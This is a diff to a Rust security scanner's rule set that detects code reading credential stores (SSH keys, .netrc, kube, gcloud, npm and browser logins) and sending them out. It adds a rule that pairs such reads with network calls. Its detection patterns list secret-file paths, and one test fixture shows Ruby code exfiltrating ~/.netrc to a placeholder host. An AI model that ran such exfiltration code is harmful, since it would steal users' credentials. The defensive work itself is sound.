@@ -99,11 +99,7 @@ const KEPT: Rule = Rule {
     literals: &[
         ".ssh",
         ".aws",
-        ".netrc",
         ".git-credentials",
-        "gcloud",
-        ".kube",
-        ".pypirc",
         ".docker",
         ".cargo/credentials",
         ".gnupg",
@@ -113,7 +109,6 @@ const KEPT: Rule = Rule {
         "wallet.dat",
         "_history",
         ".claude/",
-        ".config/gh",
         "Keychains",
         "/etc/shadow",
         "wp-config.php",
@@ -123,13 +118,12 @@ const KEPT: Rule = Rule {
         "Exodus",
         "keystore",
         ".password-store",
-        ".npmrc",
         "gradle.properties",
         ".m2/settings",
     ],
     pattern: concat!(
-        r"\.ssh(?:[/\\]{1,2}(?:id_|\*|identity)|['\x22]\s{0,2}[,)\]]|[/\\]{0,2}['\x22]\s{0,2}\))|['\x22]\.(?:aws|kube|gnupg|docker|gcloud)['\x22]\s{0,2}[,)]|\.gradle/gradle\.properties|\.m2/settings\.xml|\.aws[/\\]{1,2}(?:cred|conf|\*)|\.netrc\b|\.git-credentials|gcloud[/\\]{1,2}(?:appl|cred|access|legacy)|\.kube[/\\]{1,2}(?:config|\*)|\.pypirc\b|\.docker[/\\]{1,2}config|\.cargo/credentials|\.gnupg\b",
-        r"|\bLogin\x20Data\b|\blogins\.json|\bkey4\.db|\bwallet\.dat|\.(?:bash|zsh|psql|python|mysql|sh)_history|ConsoleHost_history|\.claude/(?:projects|history|\.credentials)|\.config/gh\b|Library/Keychains|/etc/shadow\b|\bwp-config\.php|[/\\]Cookies['\x22]|['\x22/\\]id_(?:rsa|ed25519)['\x22]|\bExodus[/\\]|\.ethereum/keystore|\.password-store|~?/\.npmrc['\x22]",
+        r"\.ssh(?:[/\\]{1,2}(?:id_|\*|identity)|['\x22]\s{0,2}[,)\]]|[/\\]{0,2}['\x22]\s{0,2}\))|['\x22]\.(?:aws|gnupg)['\x22]\s{0,2}[,)]|\.gradle/gradle\.properties|\.m2/settings\.xml|\.aws[/\\]{1,2}(?:cred|conf|\*)|\.git-credentials|\.cargo/credentials|\.gnupg\b",
+        r"|\bLogin\x20Data\b|\blogins\.json|\bkey4\.db|\bwallet\.dat|\.(?:bash|zsh|psql|python|mysql|sh)_history|ConsoleHost_history|\.claude/(?:projects|history|\.credentials)|Library/Keychains|/etc/shadow\b|\bwp-config\.php|[/\\]Cookies['\x22]|['\x22/\\]id_(?:rsa|ed25519)['\x22]|\bExodus[/\\]|\.ethereum/keystore|\.password-store",
     ),
     also: SENDS,
     accept: Some(is_no_setup),
@@ -156,6 +150,48 @@ const KEPT: Rule = Rule {
         ("a.go", "path := filepath.Join(home, \".netrc\")\nfmt.Println(path)"),
     ],
     ..BASE
+};
+
+const CLIENT: Rule = Rule {
+    id: "store-and-upload",
+    message: "reads what another program signs in with, in a program that sends",
+    literals: &[".netrc", ".kube", ".pypirc", "gcloud", ".npmrc", ".config/gh", ".docker"],
+    pattern: r"\.netrc\b|\.kube[/\\]{1,2}(?:config|\*)|['\x22]\.(?:kube|docker|gcloud)['\x22]\s{0,2}[,)]|\.pypirc\b|gcloud[/\\]{1,2}(?:appl|cred|access|legacy)|~?/\.npmrc['\x22]|\.config/gh\b|\.docker[/\\]{1,2}config",
+    also: &[
+        "http.Post",
+        "MethodPost",
+        "\"POST\"",
+        "'POST'",
+        "net.Dial",
+        "tls.Dial",
+        "LookupHost",
+        "LookupTXT",
+        "ureq::post",
+        ".post(",
+        "TcpStream::connect",
+        "UdpSocket",
+        "Net::HTTP.post",
+        "Net::SMTP",
+        "TCPSocket",
+        "URI.open",
+        "curl_init",
+        "fsockopen",
+        "LWP::",
+        "->post(",
+        "HttpClient",
+        "HttpURLConnection",
+        "openConnection",
+        "UploadFile",
+        "UploadString",
+        "socket.http",
+        "-Method Post",
+    ],
+    harmful: &[(
+        "a.rb",
+        "k = Base64.encode64(File.read(File.expand_path('~/.netrc')))\nURI.open(\"https://in.invalid/x?d=#{k}\")",
+    )],
+    harmless: &[("a.go", "n, _ := netrc.Parse(filepath.Join(h, \".netrc\"))\nhttp.NewRequest(\"GET\", u, nil)")],
+    ..KEPT
 };
 
 const ONE_LINER: Rule = Rule {
@@ -199,7 +235,7 @@ const ALL_VARIABLES: Rule = Rule {
         "environ[",
     ],
     pattern: concat!(
-        r"\bos\.Environ\(\)|\benv::vars(?:_os)?\(\)|\bENV\.(?:to_h|to_a|to_json|each|map|select|filter|inspect|sort|collect|reject|sum|flat_map)\b|\bgetenv\(\)|\b(?:json_encode|serialize|http_build_query|print_r|var_export|implode)\([^\n]{0,40}\$_(?:ENV|SERVER)\b",
+        r"(?:\brange\s|\bJoin\(|\bMarshal\w{0,6}\(|\bSprint\w{0,3}\(|\bEncode\(|\bWrite\w{0,8}\(|:=\s{0,2})\s{0,2}os\.Environ\(\)|\benv::vars(?:_os)?\(\)|\bENV\.(?:to_h|to_a|to_json|each|map|select|filter|inspect|sort|collect|reject|sum|flat_map)\b|\bgetenv\(\)|\b(?:json_encode|serialize|http_build_query|print_r|var_export|implode)\([^\n]{0,40}\$_(?:ENV|SERVER)\b",
         r"|(?:map|join|encode_json|Dumper|each|keys)\b[^\n]{0,60}[\\ ({]%ENV\b|\bSystem\.getenv\(\)|\bGetEnvironmentVariables\(|processInfo\.environment\b(?:\)|\.|\s{0,2}$)|\bSystem\.get_env\(\)|\bSys\.getenv\(\)|\b(?:Get-ChildItem|gci|dir|ls)\s{1,2}(?:-Path\s{1,2})?env:(?:\*|\s|\||\)|$)",
     ),
     also: SENDS,
@@ -299,7 +335,7 @@ const HEADERS: Rule = Rule {
     message: "hands the keys of other services to a server",
     remedy: "give a server the one key that is its own",
     literals: &["\"headers\""],
-    pattern: r"\x22url\x22\s{0,2}:\s{0,2}\x22https?://[^\s\x22]{4,120}\x22[\s\S]{0,80}?\x22headers\x22\s{0,2}:\s{0,2}\{[^}]{0,160}(?:\}[^}]{0,120}){0,4}",
+    pattern: r"\x22url\x22\s{0,2}:\s{0,2}\x22https?://[^\s\x22]{4,120}\x22[\s\S]{0,80}?\x22headers\x22\s{0,2}:\s{0,2}\{(?:\$\{[^}\n]{1,40}\}|[^{}]){1,240}",
     accept: Some(has_strange_key),
     harmful: &[(
         "mcp.json",
@@ -341,7 +377,7 @@ const PATCHED: Rule = Rule {
         "HTTPConnection.request",
     ],
     pattern: concat!(
-        r"\bModule\.prototype\.require\s{0,2}=|\bModule\._load\s{0,2}=|\b(?:https?|m|mod|real)\.request\s{0,2}=\s{0,2}(?:function|\(|async|new\sProxy|\w{1,12}\s{0,2}=>)|\b(?:globalThis|window|global)\.fetch\s{0,2}=\s{0,2}(?:async|function|\(|new\sProxy)|XMLHttpRequest\.prototype\.(?:open|send|setRequestHeader)\s{0,2}=",
+        r"\bModule\.prototype\.require\s{0,2}=|\bModule\._load\s{0,2}=|\b(?:https?|m|mod|real)\.request\s{0,2}=\s{0,2}(?:function|\(|async|new\sProxy|\w{1,12}\s{0,2}=>)|\b(?:globalThis|window|global)\.fetch\s{0,2}=\s{0,2}(?:async|function|\(|new\sProxy)[\s\S]{0,300}https?://|XMLHttpRequest\.prototype\.(?:open|send|setRequestHeader)\s{0,2}=",
         r"|\bSession\.(?:send|request)\s{0,2}=\s{0,2}\w|\bHTTPS?Connection\.request\s{0,2}=\s{0,2}\w",
     ),
     also: &["uthorization", "x-api-key", "cookie"],
@@ -401,6 +437,7 @@ const MOUNTED: Rule = Rule {
 /// All rules of this category.
 pub(crate) const RULES: &[Rule] = &[
     KEPT,
+    CLIENT,
     ONE_LINER,
     ALL_VARIABLES,
     COMMIT,
